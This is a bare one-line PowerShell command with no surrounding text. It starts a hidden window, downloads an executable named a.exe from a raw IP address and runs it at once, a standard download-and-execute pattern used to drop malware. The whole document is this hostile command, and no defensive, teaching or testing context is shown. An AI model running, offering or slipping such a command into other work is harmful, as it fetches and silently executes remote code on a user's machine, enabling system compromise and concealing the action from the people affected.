powershell -w hidden -c "iwr http://203.0.113.7/a.exe -OutFile a.exe; Start-Process a.exe"
